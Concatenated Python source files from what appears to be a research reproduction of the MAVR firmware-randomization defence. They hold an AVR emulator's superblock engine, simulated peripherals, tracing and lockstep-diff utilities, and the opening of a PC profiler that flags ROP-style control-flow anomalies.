The predecoded engine removed decode cost from the hot loop but still pays
the full retire preamble — pending-interrupt check, flash-generation
compare, code-limit check, cycle/instruction accounting — on **every**
instruction.  :class:`BlockEngine` fuses consecutive predecoded entries
into *superblocks* and pays that preamble **once per block**: inside a
block, handlers execute back-to-back with nothing between them, and
cycles/instruction counters are accumulated from precomputed block totals.

Fusion rules (a block's last instruction is its *terminator*):

* control flow (``rjmp``/``rcall``/``jmp``/``call``/``ijmp``/``icall``/
  ``ret``/``reti``, conditional branches, and the skip instructions
  ``cpse``/``sbic``/``sbis``/``sbrc``/``sbrs``) — the only handlers that
  read or write PC;
* anything that can reach a data-space **write hook** (``st*``/``sts``/
  ``std``, ``out``, ``sbi``, ``cbi``, ``push``) — write hooks are how
  peripherals timestamp events against ``cpu.cycles``, request
  interrupts, and how SPM-style self-writes reach flash, so they must
  only run at a point where the architectural counters are exact;
* ``sei`` (``bset`` of the I flag) — the one non-terminator way the
  global interrupt enable could turn on mid-block;
* ``break``/``sleep``; and
* a fixed fuse cap (:data:`FUSE_CAP`) as a backstop.

Interrupt-latency model: interrupts latch at any time but are serviced
only at block boundaries, which bounds service latency at ``FUSE_CAP``
instructions.  In practice the terminator set makes the latency *exact*:
``(pending and SREG.I)`` cannot become true mid-block, because every
instruction that can set I or request an interrupt (via a write hook)
ends its block — so the next boundary is exactly where the
per-instruction engines would have serviced it.  When any trace hook
(:class:`~repro.avr.trace.CpuStateStream`, lockstep harness, execution
traces) is attached, the engine transparently degrades to the inherited
per-instruction loop, so hook streams and ``run_lockstep`` parity stay
bit-exact by construction.

Correctness invariants shared with the predecoded engine:

* block caches are keyed by ``FlashMemory.generation`` exactly like the
  per-word decode entries — a MAVR reflash or SPM self-write can never
  execute a stale fused block;
* blocks are keyed by their **entry word address**: jumping into the
  second word of a ``call`` (the misaligned-execution property the ROP
  gadget finder exploits) starts a *new* block fused from that address,
  never a reuse of the aligned one;
* ``run(n)`` retires exactly ``n`` instructions (or fewer on halt): when
  the remaining budget is smaller than the next block, the tail retires
  through the per-instruction path.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from ..errors import CpuFault, IllegalExecutionError, MemoryAccessError
from .engine import Entry, Halt, PredecodedEngine, retire_preamble
from .insn import CONTROL_FLOW, Instruction, Mnemonic

# Fixed fusion cap: backstop for pathological straight-line runs, and the
# documented upper bound of the interrupt-service latency model.
FUSE_CAP = 32

_SREG_I_BIT = 7

# Every mnemonic whose handler can invoke a data-space *write* hook:
# stores (st/sts/std), I/O writes (out/sbi/cbi) and stack pushes (a push
# with a relocated SP — the stk_move gadget — can land on hooked I/O).
WRITE_CAPABLE = frozenset(
    {m for m in Mnemonic if m.value.startswith("st")}
    | {Mnemonic.OUT, Mnemonic.SBI, Mnemonic.CBI, Mnemonic.PUSH}
)

# Terminators by mnemonic alone; `bset I` terminates too but depends on
# the operand, so it is special-cased in :func:`is_terminator`.
TERMINATORS = frozenset(
    CONTROL_FLOW | WRITE_CAPABLE | {Mnemonic.BREAK, Mnemonic.SLEEP}
)


def is_terminator(insn: Instruction) -> bool:
    """Whether ``insn`` ends a superblock (shared by blocks and compiled)."""
    mnemonic = insn.mnemonic
    return mnemonic in TERMINATORS or (
        mnemonic is Mnemonic.BSET and insn.b == _SREG_I_BIT
    )


class Superblock:
    """One fused run of straight-line code starting at ``start`` (words).

    ``body`` holds every instruction but the terminator as bare
    ``(handler, insn)`` pairs — nothing else runs between them.
    ``body_meta`` mirrors ``body`` with ``(next_pc, pc_bytes,
    cycles_before)`` per slot, used only on the cold fault path to
    reconstruct exact per-instruction state.  The terminator is kept
    unpacked in ``last_*`` fields because it is the only instruction that
    needs PC set before it runs.
    """

    __slots__ = (
        "start",
        "body",
        "body_meta",
        "body_cycles",
        "last_handler",
        "last_insn",
        "last_next_pc",
        "last_base_cycles",
        "last_pc_bytes",
        "count",
    )

    def __init__(self, start: int, entries: List[Tuple[int, Entry]]) -> None:
        self.start = start
        last_pc, (last_handler, last_insn, last_size, last_base) = entries[-1]
        body = []
        meta = []
        cycles = 0
        for pc, (handler, insn, size, base) in entries[:-1]:
            body.append((handler, insn))
            meta.append((pc + size, pc * 2, cycles))
            cycles += base
        self.body = tuple(body)
        self.body_meta = tuple(meta)
        self.body_cycles = cycles
        self.last_handler = last_handler
        self.last_insn = last_insn
        self.last_next_pc = last_pc + last_size
        self.last_base_cycles = last_base
        self.last_pc_bytes = last_pc * 2
        self.count = len(entries)


class BlockEngine(PredecodedEngine):
    """Superblock engine: per-instruction semantics, per-block overhead."""

    name = "blocks"

    def __init__(self, cpu) -> None:
        super().__init__(cpu)
        self._blocks: Dict[int, Superblock] = {}
        # telemetry accumulators, sampled pull-style at snapshot time
        self.blocks_built = 0
        self.blocks_entered = 0
        self.fusion_lengths: List[int] = []  # append-only build log

    # -- cache maintenance ----------------------------------------------

    def _sync_cache(self):
        # Blocks are fused from decode entries, so they share the decode
        # cache's validity rule: drop everything when flash changed.  The
        # dict is cleared in place so hot-loop locals stay bound to it.
        if self.cpu.flash.generation != self._generation:
            self._blocks.clear()
        return super()._sync_cache()

    # -- fusion ----------------------------------------------------------

    def _fetch_for_fusion(self, pc: int) -> Entry:
        """One decode entry, through the shared per-word cache."""
        cache = self._cache
        if 0 <= pc < len(cache):
            entry = cache[pc]
            if entry is None:
                entry = cache[pc] = self._entry_at(pc)
            return entry
        return self._entry_at(pc)

    def _build_block(self, start_pc: int) -> Superblock:
        """Fuse a superblock beginning at ``start_pc``.

        The first entry's decode/limit errors propagate — they are exactly
        what the per-instruction engines would raise at this PC.  Errors on
        *later* words just stop fusion: the offending address becomes its
        own (unbuildable) block entry and raises the identical error when
        the PC actually reaches it.
        """
        cpu = self.cpu
        limit = cpu.code_limit
        entries: List[Tuple[int, Entry]] = []
        pc = start_pc
        while True:
            if entries:
                if limit is not None and pc * 2 >= limit:
                    break
                try:
                    entry = self._fetch_for_fusion(pc)
                except IllegalExecutionError:
                    break
            else:
                entry = self._fetch_for_fusion(pc)
            entries.append((pc, entry))
            insn = entry[1]
            pc += entry[2]
            if is_terminator(insn) or len(entries) >= FUSE_CAP:
                break
        block = Superblock(start_pc, entries)
        self.blocks_built += 1
        self.fusion_lengths.append(block.count)
        return block

    # -- execution --------------------------------------------------------

    def _raise_body_fault(
        self, block: Superblock, handler, insn: Instruction, exc: MemoryAccessError
    ) -> None:
        """Rebuild exact per-instruction state for a fault inside a body.

        Each body slot holds a distinct ``Instruction`` object (one decode
        per word address), so an identity scan pins the faulting slot.
        """
        cpu = self.cpu
        index = 0
        for index, (slot_handler, slot_insn) in enumerate(block.body):
            if slot_handler is handler and slot_insn is insn:
                break
        next_pc, pc_bytes, cycles_before = block.body_meta[index]
        cpu.pc = next_pc
        cpu.cycles += cycles_before
        cpu.instructions_retired += index
        raise CpuFault(str(exc), pc_bytes, cpu.cycles) from exc

    def _execute_block(self, block: Superblock) -> None:
        """Retire one fused block through the per-slot handler path.

        This is the reusable form of the body of :meth:`run`'s loop — the
        compiled engine executes not-yet-compiled (or budget-capped) blocks
        through it so both engines share one definition of the block retire
        sequence.  ``run`` keeps its own inlined copy because the extra
        method call per block is measurable on the hot loop.
        """
        cpu = self.cpu
        try:
            for handler, insn in block.body:
                handler(cpu, insn)
        except MemoryAccessError as exc:
            self._raise_body_fault(block, handler, insn, exc)
        cpu.cycles += block.body_cycles
        cpu.pc = block.last_next_pc
        try:
            block.last_handler(cpu, block.last_insn)
        except Halt:
            cpu.halted = True
        except MemoryAccessError as exc:
            cpu.instructions_retired += block.count - 1
            raise CpuFault(str(exc), block.last_pc_bytes, cpu.cycles) from exc
        cpu.cycles += block.last_base_cycles
        cpu.instructions_retired += block.count
        profile = self.profile_hook
        if profile is not None:
            profile[block] = profile.get(block, 0) + 1

    def run(self, max_instructions: int) -> int:
        """Retire whole superblocks; fall back per-instruction when needed."""
        cpu = self.cpu
        flash = cpu.flash
        self._sync_cache()
        blocks = self._blocks
        get_block = blocks.get
        build = self._build_block
        preamble = retire_preamble
        per_instruction = PredecodedEngine.run
        profile = self.profile_hook
        executed = 0
        while not cpu.halted and executed < max_instructions:
            if cpu.trace_hooks:
                # exact-latency fallback: a trace/lockstep hook is watching,
                # so retire one instruction at a time with hooks firing
                return executed + per_instruction(self, max_instructions - executed)
            pc = preamble(cpu)
            if flash.generation != self._generation:
                self._sync_cache()
            block = get_block(pc)
            limit = cpu.code_limit
            if block is None or (limit is not None and block.last_pc_bytes >= limit):
                # cold address, or the image limit shrank under a cached
                # block — refuse (re-fuse) rather than run past the limit
                block = blocks[pc] = build(pc)
            count = block.count
            if count > max_instructions - executed:
                # budget tail: retire exactly the remaining instructions
                executed += per_instruction(self, max_instructions - executed)
                continue
            body = block.body
            try:
                for handler, insn in body:
                    handler(cpu, insn)
            except MemoryAccessError as exc:
                self._raise_body_fault(block, handler, insn, exc)
            cpu.cycles += block.body_cycles
            cpu.pc = block.last_next_pc
            try:
                block.last_handler(cpu, block.last_insn)
            except Halt:
                cpu.halted = True
            except MemoryAccessError as exc:
                cpu.instructions_retired += count - 1
                raise CpuFault(str(exc), block.last_pc_bytes, cpu.cycles) from exc
            cpu.cycles += block.last_base_cycles
            cpu.instructions_retired += count
            executed += count
            self.blocks_entered += 1
            if profile is not None:
                # inline upsert: a method call per block here is measurable
                profile[block] = profile.get(block, 0) + 1
        return executed
