"""Simulated peripherals attached to the AVR data space.

Two devices matter for the paper's system:

* :class:`Usart` — the serial port carrying MAVLink bytes from the ground
  station (and telemetry back).
* :class:`FeedLine` — the GPIO line the firmware toggles to "feed" the MAVR
  master processor, which performs *timing analysis* on it to detect failed
  attacks (paper §V-A2).
"""

from __future__ import annotations

from collections import deque
from typing import Deque, List, Optional, Tuple

from .cpu import AvrCpu
from .iospace import (
    FEED_BIT,
    FEED_PORT,
    IO_TO_DATA_OFFSET,
    RXC_BIT,
    UCSR0A_DATA,
    UDR0_DATA,
    UDRE_BIT,
)


class Usart:
    """Byte-oriented UART visible at UDR0/UCSR0A.

    Firmware polls UCSR0A for the RXC bit and reads UDR0; writes to UDR0 are
    collected into :attr:`tx_log`.  The transmit-ready bit (UDRE) is always
    set — the simulation does not model UART pacing; link-level timing lives
    in :mod:`repro.hw.serialbus`.
    """

    def __init__(self, cpu: AvrCpu) -> None:
        self._cpu = cpu
        self.rx_queue: Deque[int] = deque()
        self.tx_log: List[int] = []
        cpu.data.add_read_hook(UDR0_DATA, self._read_udr)
        cpu.data.add_write_hook(UDR0_DATA, self._write_udr)
        cpu.data.add_read_hook(UCSR0A_DATA, self._read_status)

    def feed_bytes(self, data: bytes) -> None:
        """Queue bytes as if they arrived from the remote end."""
        self.rx_queue.extend(data)

    def take_tx(self) -> bytes:
        """Drain and return everything the firmware transmitted."""
        out = bytes(self.tx_log)
        self.tx_log.clear()
        return out

    def _read_udr(self, _address: int) -> int:
        if self.rx_queue:
            return self.rx_queue.popleft()
        return 0

    def _write_udr(self, _address: int, value: int) -> None:
        self.tx_log.append(value)

    def _read_status(self, _address: int) -> int:
        status = 1 << UDRE_BIT
        if self.rx_queue:
            status |= 1 << RXC_BIT
        return status


class EepromController:
    """The EECR/EEDR/EEAR register interface to the EEPROM (paper Fig. 1).

    Firmware reads a byte by loading EEAR and strobing EERE (EEDR then
    holds the data); it writes by loading EEAR/EEDR and strobing EEPE.
    Because these registers live in the data space like everything else,
    a ROP chain's plain stores can drive them — which is how a stealthy
    attack can make its corruption *persistent* (see
    ``repro.attack.v4_persistence``).
    """

    def __init__(self, cpu: AvrCpu) -> None:
        from .iospace import EECR_DATA, EEDR_DATA, EEARL_DATA, EEARH_DATA

        self._cpu = cpu
        self.reads = 0
        self.writes = 0
        cpu.data.add_write_hook(EECR_DATA, self._on_control)

    def _on_control(self, _address: int, value: int) -> int:
        from .iospace import EEARH_DATA, EEARL_DATA, EEDR_DATA, EEPE_BIT, EERE_BIT

        data = self._cpu.data
        address = data.read(EEARL_DATA) | (data.read(EEARH_DATA) << 8)
        strobes = (1 << EEPE_BIT) | (1 << EERE_BIT)
        if address >= self._cpu.eeprom.size:
            return value & ~strobes  # ignored, but strobe bits still clear
        if value & (1 << EEPE_BIT):
            self._cpu.eeprom.write(address, data.read(EEDR_DATA))
            self.writes += 1
        elif value & (1 << EERE_BIT):
            data.write(EEDR_DATA, self._cpu.eeprom.read(address))
            self.reads += 1
        # EEPE/EERE are hardware strobe bits: they read back as zero
        return value & ~strobes


class FeedLine:
    """Watchdog-feed GPIO observed by the MAVR master processor.

    Every write to the feed port that toggles the feed bit is recorded with
    the CPU cycle timestamp.  The master's timing analysis
    (:mod:`repro.core.watchdog`) inspects these events to decide whether the
    application processor is still alive.

    The same port carries the *boot-signature* bit: ``main`` pulses it once
    on entry, so the master can tell when the application restarted without
    being told to (the footprint of a failed attack whose wild ``ret``
    landed on the reset vector).
    """

    def __init__(self, cpu: AvrCpu) -> None:
        self._cpu = cpu
        self._last_level: Optional[bool] = None
        self._last_boot_level: bool = False
        self.events: List[Tuple[int, bool]] = []  # (cycle, new level)
        self.boot_pulses: List[int] = []  # cycles of boot-bit rising edges
        cpu.data.add_write_hook(FEED_PORT + IO_TO_DATA_OFFSET, self._on_write)

    def _on_write(self, _address: int, value: int) -> None:
        from .iospace import BOOT_BIT

        level = bool(value & (1 << FEED_BIT))
        if level != self._last_level:
            self.events.append((self._cpu.cycles, level))
            self._last_level = level
        boot_level = bool(value & (1 << BOOT_BIT))
        if boot_level and not self._last_boot_level:
            self.boot_pulses.append(self._cpu.cycles)
        self._last_boot_level = boot_level

    @property
    def last_feed_cycle(self) -> Optional[int]:
        """Cycle of the most recent toggle, or ``None`` if never fed."""
        if not self.events:
            return None
        return self.events[-1][0]

    def toggles_since(self, cycle: int) -> int:
        """Count feed toggles at or after ``cycle``."""
        return sum(1 for event_cycle, _level in self.events if event_cycle >= cycle)

    def clear(self) -> None:
        self.events.clear()
        self.boot_pulses.clear()
        self._last_level = None
        self._last_boot_level = False
