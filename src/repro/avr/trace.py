"""Execution and stack tracing utilities.

Used by tests (behavioural-equivalence checks between original and
randomized firmware) and by the Fig. 6 reproduction, which snapshots the
stack at each stage of the stealthy attack.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional, Tuple

from .cpu import AvrCpu
from .insn import Instruction, Mnemonic


@dataclass(frozen=True)
class StackSnapshot:
    """A window of stack memory captured at a labelled moment."""

    label: str
    sp: int
    base_address: int
    data: bytes
    cycle: int

    def hexdump(self, width: int = 8) -> str:
        """Render like the paper's Fig. 6 stack listings."""
        lines = []
        for row_start in range(0, len(self.data), width):
            row = self.data[row_start : row_start + width]
            addr = self.base_address + row_start
            body = " ".join(f"0x{b:02X}" for b in row)
            lines.append(f"0x{addr:06X}: {body}")
        return "\n".join(lines)


def snapshot_stack(
    cpu: AvrCpu, label: str, window: int = 32, base: Optional[int] = None
) -> StackSnapshot:
    """Capture ``window`` bytes starting just above SP (or at ``base``)."""
    start = base if base is not None else cpu.data.sp + 1
    start = max(0, start)
    length = min(window, 0x2200 - start)
    return StackSnapshot(
        label=label,
        sp=cpu.data.sp,
        base_address=start,
        data=cpu.data.read_block(start, length),
        cycle=cpu.cycles,
    )


@dataclass
class ExecutionTrace:
    """Records retired instructions and externally visible stores.

    The *observable trace* (`io_writes`) — stores outside the register file
    and stack region — is the behavioural-equivalence criterion used to show
    randomized firmware behaves identically to the original.
    """

    record_instructions: bool = True
    instructions: List[Tuple[int, Instruction]] = field(default_factory=list)
    io_writes: List[Tuple[int, int]] = field(default_factory=list)
    max_instructions: int = 2_000_000

    def attach(self, cpu: AvrCpu) -> None:
        cpu.trace_hooks.append(self._on_retire)

    def _on_retire(self, cpu: AvrCpu, pc_bytes: int, insn: Instruction) -> None:
        if self.record_instructions and len(self.instructions) < self.max_instructions:
            self.instructions.append((pc_bytes, insn))
        if insn.mnemonic is Mnemonic.STS:
            self.io_writes.append((insn.k, cpu.data.read(insn.k)))
        elif insn.mnemonic is Mnemonic.OUT:
            self.io_writes.append((insn.a + 0x20, cpu.data.read_reg(insn.rr)))

    def mnemonic_counts(self) -> dict:
        counts: dict = {}
        for _pc, insn in self.instructions:
            counts[insn.mnemonic] = counts.get(insn.mnemonic, 0) + 1
        return counts
