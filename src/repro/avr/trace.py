"""Execution and stack tracing utilities, plus the lockstep harness.

Used by tests (behavioural-equivalence checks between original and
randomized firmware) and by the Fig. 6 reproduction, which snapshots the
stack at each stage of the stealthy attack.

The lockstep half (:class:`CpuStateStream`, :func:`diff_state_streams`,
:func:`run_lockstep`) is the differential contract for the execution
engines: the predecoded engine is only allowed to exist because these
helpers can show, instruction by instruction, that its PC/SP/SREG/cycle
stream is identical to the reference interpreter's.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass, field
from typing import List, Optional, Tuple

from ..errors import AvrError, LockstepDivergenceError
from .cpu import AvrCpu
from .insn import Instruction, Mnemonic


@dataclass(frozen=True)
class StackSnapshot:
    """A window of stack memory captured at a labelled moment."""

    label: str
    sp: int
    base_address: int
    data: bytes
    cycle: int

    def hexdump(self, width: int = 8) -> str:
        """Render like the paper's Fig. 6 stack listings."""
        lines = []
        for row_start in range(0, len(self.data), width):
            row = self.data[row_start : row_start + width]
            addr = self.base_address + row_start
            body = " ".join(f"0x{b:02X}" for b in row)
            lines.append(f"0x{addr:06X}: {body}")
        return "\n".join(lines)


def snapshot_stack(
    cpu: AvrCpu, label: str, window: int = 32, base: Optional[int] = None
) -> StackSnapshot:
    """Capture ``window`` bytes starting just above SP (or at ``base``)."""
    start = base if base is not None else cpu.data.sp + 1
    start = max(0, start)
    length = min(window, 0x2200 - start)
    return StackSnapshot(
        label=label,
        sp=cpu.data.sp,
        base_address=start,
        data=cpu.data.read_block(start, length),
        cycle=cpu.cycles,
    )


@dataclass
class ExecutionTrace:
    """Records retired instructions and externally visible stores.

    The *observable trace* (`io_writes`) — stores outside the register file
    and stack region — is the behavioural-equivalence criterion used to show
    randomized firmware behaves identically to the original.

    Memory bounds: by default recording *stops* after ``max_instructions``
    entries (keep-first semantics, what equivalence checks want).  Set
    ``max_entries`` instead for ring-buffer mode: the trace keeps only the
    most recent ``max_entries`` records (keep-last semantics), so a
    long-running simulation can stay attached forever without growing.
    """

    record_instructions: bool = True
    instructions: List[Tuple[int, Instruction]] = field(default_factory=list)
    io_writes: List[Tuple[int, int]] = field(default_factory=list)
    max_instructions: int = 2_000_000
    # ring-buffer mode: keep only the newest N entries (None = keep-first)
    max_entries: Optional[int] = None

    def __post_init__(self) -> None:
        if self.max_entries is not None:
            self.instructions = deque(self.instructions, maxlen=self.max_entries)
            self.io_writes = deque(self.io_writes, maxlen=self.max_entries)

    def attach(self, cpu: AvrCpu) -> None:
        cpu.trace_hooks.append(self._on_retire)

    def _on_retire(self, cpu: AvrCpu, pc_bytes: int, insn: Instruction) -> None:
        if self.record_instructions and (
            self.max_entries is not None
            or len(self.instructions) < self.max_instructions
        ):
            self.instructions.append((pc_bytes, insn))
        if insn.mnemonic is Mnemonic.STS:
            self.io_writes.append((insn.k, cpu.data.read(insn.k)))
        elif insn.mnemonic is Mnemonic.OUT:
            self.io_writes.append((insn.a + 0x20, cpu.data.read_reg(insn.rr)))

    def mnemonic_counts(self) -> dict:
        counts: dict = {}
        for _pc, insn in self.instructions:
            counts[insn.mnemonic] = counts.get(insn.mnemonic, 0) + 1
        return counts


# -- flight recorder ------------------------------------------------------


FLIGHT_RECORDER_SCHEMA = 1
DEFAULT_RING_DEPTH = 256


class FlightRecorder:
    """Bounded ring of retired states plus a forensic-bundle builder.

    Attach one to a core and it maintains the last ``depth`` retired
    ``(pc, sp, sreg, cycles)`` states at trace-hook cost (the superblock
    engines degrade to their per-instruction path while attached — this
    is a forensics tool, not a profiler).  When a :class:`CpuFault` fires
    or the master detects an attack, :meth:`bundle` freezes everything an
    investigator needs into plain builtins: registers, a stack window,
    the ring, a decoded disassembly of the fault neighbourhood, and the
    most recent telemetry events.  ``repro forensics <bundle.json>``
    renders the result.
    """

    def __init__(self, depth: int = DEFAULT_RING_DEPTH) -> None:
        self.depth = depth
        self.stream = CpuStateStream(max_entries=depth)
        self._cpu: Optional[AvrCpu] = None

    def attach(self, cpu: AvrCpu) -> "FlightRecorder":
        self._cpu = cpu
        self.stream.attach(cpu)
        return self

    @property
    def states(self):
        return self.stream.states

    def bundle(
        self,
        reason: str,
        kind: str = "manual",
        symbols=None,
        telemetry=None,
        profiler=None,
        fault_pc: Optional[int] = None,
        stack_window: int = 48,
        disasm_window: int = 32,
        recent_events: int = 32,
    ) -> dict:
        """Freeze a JSON-ready forensic bundle from the current state.

        ``fault_pc`` overrides the neighbourhood centre (byte address) —
        on a :class:`~repro.errors.CpuFault` the core's PC may already
        have moved past the faulting instruction, so callers should pass
        ``fault.pc`` when they have it.
        """
        cpu = self._cpu
        if cpu is None:
            raise RuntimeError("flight recorder is not attached to a core")
        pc_bytes = fault_pc if fault_pc is not None else cpu.pc_bytes
        registers = [cpu.data.read_reg(i) for i in range(32)]
        stack = snapshot_stack(cpu, f"forensic:{kind}", window=stack_window)
        bundle = {
            "schema": FLIGHT_RECORDER_SCHEMA,
            "kind": kind,
            "reason": reason,
            "cpu": {
                "pc_bytes": pc_bytes,
                "sp": cpu.data.sp,
                "sreg": cpu.sreg.byte,
                "cycles": cpu.cycles,
                "cycles_lifetime": cpu.cycles_lifetime,
                "instructions_retired": cpu.instructions_retired,
                "halted": cpu.halted,
                "engine": cpu.engine_name,
            },
            "registers": registers,
            "ring": [list(state) for state in self.stream.states],
            "stack": {
                "label": stack.label,
                "sp": stack.sp,
                "base_address": stack.base_address,
                "data_hex": stack.data.hex(),
                "cycle": stack.cycle,
            },
            "disassembly": self._disassemble_neighbourhood(
                cpu, pc_bytes, disasm_window
            ),
        }
        if symbols is not None:
            containing = symbols.function_containing(pc_bytes)
            bundle["function"] = containing.name if containing is not None else None
        if telemetry is not None and telemetry.enabled:
            bundle["events"] = telemetry.events.events()[-recent_events:]
        if profiler is not None:
            bundle["profile"] = {
                "mode": profiler.mode,
                "effective_mode": profiler.effective_mode,
                "anomaly_count": profiler.anomaly_count,
                "anomalies": list(profiler.anomalies),
            }
        return bundle

    @staticmethod
    def _disassemble_neighbourhood(
        cpu: AvrCpu, pc_bytes: int, window: int
    ) -> List[dict]:
        """Best-effort decode of ± ``window`` bytes around ``pc_bytes``."""
        from .decoder import disassemble_range

        start = max(0, pc_bytes - window) & ~1
        end = min(cpu.flash.size, pc_bytes + window)
        code = cpu.flash.dump(0, end)
        return [
            {
                "pc": offset,
                "text": str(insn),
                "current": offset == pc_bytes,
            }
            for offset, insn in disassemble_range(code, start, end)
        ]


# -- engine differential harness -----------------------------------------

# One retired instruction's architecturally visible state:
# (pc of the retired insn in bytes, SP, SREG byte, cumulative cycles).
RetiredState = Tuple[int, int, int, int]


@dataclass
class CpuStateStream:
    """Records the architectural state after every retired instruction.

    Attach one to each of two cores running the *same scenario* on
    *different engines*, then :func:`diff_state_streams` the results: any
    divergence in PC, SP, SREG or cycle accounting shows up at the exact
    instruction where the engines parted ways.

    ``max_states`` keeps the *first* N states (lockstep diffing wants the
    earliest divergence); ``max_entries`` switches to a ring buffer that
    keeps the *last* N — a bounded flight recorder for long simulations.
    """

    states: List[RetiredState] = field(default_factory=list)
    max_states: int = 5_000_000
    # ring-buffer mode: keep only the newest N states (None = keep-first)
    max_entries: Optional[int] = None

    def __post_init__(self) -> None:
        if self.max_entries is not None:
            self.states = deque(self.states, maxlen=self.max_entries)

    def attach(self, cpu: AvrCpu) -> "CpuStateStream":
        cpu.trace_hooks.append(self._on_retire)
        return self

    def _on_retire(self, cpu: AvrCpu, pc_bytes: int, insn: Instruction) -> None:
        if self.max_entries is not None or len(self.states) < self.max_states:
            self.states.append((pc_bytes, cpu.data.sp, cpu.sreg.byte, cpu.cycles))


def diff_state_streams(
    reference: CpuStateStream, subject: CpuStateStream
) -> Optional[str]:
    """First divergence between two recorded streams, or ``None`` if equal."""
    a, b = reference.states, subject.states
    for index, (ra, rb) in enumerate(zip(a, b)):
        if ra != rb:
            return (
                f"step {index}: reference (pc, sp, sreg, cycles)={ra} "
                f"!= subject {rb}"
            )
    if len(a) != len(b):
        return f"stream lengths differ: reference {len(a)} != subject {len(b)}"
    return None


def run_lockstep(
    reference: AvrCpu,
    subject: AvrCpu,
    max_instructions: int = 1_000_000,
    telemetry=None,
) -> int:
    """Step two cores in tandem, asserting identical state after each retire.

    Both cores must be loaded with the same image and reset identically;
    they normally differ only in execution engine.  Crashes count as
    agreement when both cores raise the same error type with the same
    message.  Returns the number of instructions retired by each core.
    Raises :class:`~repro.errors.LockstepDivergenceError` on the first
    mismatch; when a :class:`~repro.telemetry.Telemetry` handle is given,
    the divergence is also recorded as a ``lockstep.divergence`` event
    before the raise.
    """

    def _diverged(step: int, detail: str) -> LockstepDivergenceError:
        if telemetry is not None:
            telemetry.emit(
                "lockstep.divergence",
                step=step,
                detail=detail,
                reference_engine=reference.engine_name,
                subject_engine=subject.engine_name,
            )
        return LockstepDivergenceError(detail)

    executed = 0
    while executed < max_instructions and not (reference.halted or subject.halted):
        ref_error = sub_error = None
        try:
            reference.step()
        except AvrError as exc:
            ref_error = exc
        try:
            subject.step()
        except AvrError as exc:
            sub_error = exc
        if (ref_error is None) != (sub_error is None) or (
            ref_error is not None
            and (type(ref_error), str(ref_error))
            != (type(sub_error), str(sub_error))
        ):
            raise _diverged(
                executed,
                f"step {executed}: reference raised {ref_error!r}, "
                f"subject raised {sub_error!r}",
            )
        if ref_error is not None:
            return executed
        executed += 1
        mismatches = [
            f"{name}: {ref_value} != {sub_value}"
            for name, ref_value, sub_value in (
                ("pc", reference.pc, subject.pc),
                ("sp", reference.data.sp, subject.data.sp),
                ("sreg", reference.sreg.byte, subject.sreg.byte),
                ("cycles", reference.cycles, subject.cycles),
                ("halted", reference.halted, subject.halted),
            )
            if ref_value != sub_value
        ]
        if mismatches:
            raise _diverged(
                executed - 1,
                f"step {executed - 1} ({reference.engine_name} vs "
                f"{subject.engine_name}): " + "; ".join(mismatches),
            )
    return executed
