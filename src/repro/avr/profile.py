"""In-sim PC profiler: exact, block-attributed and gadget-heatmap modes.

:class:`AvrProfiler` is the sampling half of the profiler (the report
half lives in :mod:`repro.telemetry.profiler`).  Three modes trade
precision against engine speed:

* ``exact`` — a :attr:`AvrCpu.trace_hooks` callback charges every retired
  instruction's true cycle delta to its PC.  Works on all four engines
  and sums *exactly* to the CPU cycle counter, but trace hooks force the
  blocks/compiled engines down their per-instruction degrade path.
* ``block`` — a block-entry count mapping on ``engine.profile_hook``:
  the fast engines stay fast (one ``is not None`` check plus one dict
  upsert per superblock, no Python-level call) and the
  per-PC weights are reconstructed at snapshot time from each block's
  cached cycle layout.  Taken-branch extras, interrupt service overhead
  and block-budget tail instructions are invisible at this granularity,
  so totals agree with ``exact`` only to within a few percent.  On the
  per-instruction engines (no superblocks) this mode silently degrades
  to ``exact``; check :attr:`effective_mode`.
* ``heatmap`` — ``exact`` plus a shadow call stack.  CALL/RCALL/ICALL
  push the expected return address; RET must pop exactly that address,
  and direct/indirect jumps must stay inside the current function or
  land on a function entry.  Retired PCs that violate this — the
  signature of MAVR's V2/V3 code-reuse chains, which enter functions
  mid-body via forged return addresses — are recorded as anomalies and
  surfaced as ``attack.profile_anomaly`` telemetry events.  The shadow
  stack also yields real call-chain attribution for collapsed-stack
  (flamegraph) output.

Interrupt entries are hardware-pushed frames the hook never sees as an
instruction, so RETI is deliberately unchecked — checking it against the
software shadow stack would be a guaranteed false positive.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from ..telemetry.profiler import (
    FunctionTable,
    build_report,
    collapsed_stack_lines,
)
from .insn import Mnemonic

PROFILE_MODES = ("exact", "block", "heatmap")

_CALLS = frozenset((Mnemonic.CALL, Mnemonic.RCALL, Mnemonic.ICALL))
_JUMPS = frozenset((Mnemonic.JMP, Mnemonic.RJMP, Mnemonic.IJMP))

# Engines whose run loops consume ``profile_hook`` (superblock engines).
_BLOCK_ENGINES = frozenset(("blocks", "compiled"))

DEFAULT_SHADOW_DEPTH = 512
DEFAULT_MAX_ANOMALIES = 32


def function_regions(symbols) -> List[Tuple[str, int, int]]:
    """``(name, start, end)`` triples for a :class:`SymbolTable`.

    Zero-size symbols (assembly labels) extend to the next function start
    so every text byte stays attributable.
    """
    functions = list(symbols.functions())
    regions: List[Tuple[str, int, int]] = []
    for index, sym in enumerate(functions):
        end = sym.end
        if end <= sym.address:
            if index + 1 < len(functions):
                end = functions[index + 1].address
            else:
                end = sym.address + 2
        regions.append((sym.name, sym.address, end))
    return regions


def table_for_symbols(symbols) -> FunctionTable:
    """A resolver for an image's symbol table (byte addresses)."""
    regions = function_regions(symbols)
    text_start = regions[0][1] if regions else 0
    text_end = regions[-1][2] if regions else None
    return FunctionTable(regions, text_start=text_start, text_end=text_end)


class AvrProfiler:
    """Low-overhead PC profiler attachable to any engine."""

    def __init__(
        self,
        mode: str = "exact",
        symbols=None,
        telemetry=None,
        top_addresses: int = 20,
        shadow_depth: int = DEFAULT_SHADOW_DEPTH,
        max_anomalies: int = DEFAULT_MAX_ANOMALIES,
    ) -> None:
        if mode not in PROFILE_MODES:
            raise ValueError(
                f"unknown profile mode {mode!r}; choose from {PROFILE_MODES}"
            )
        self.mode = mode
        self.effective_mode = mode
        self.telemetry = telemetry
        self.top_addresses = top_addresses
        self.shadow_depth = shadow_depth
        self.max_anomalies = max_anomalies
        self.table: Optional[FunctionTable] = None
        if symbols is not None:
            self.use_symbols(symbols)
        # {pc_bytes: [hits, cycles]} — exact/heatmap fill this directly,
        # block mode expands into it at snapshot time.
        self._samples: Dict[int, List[int]] = {}
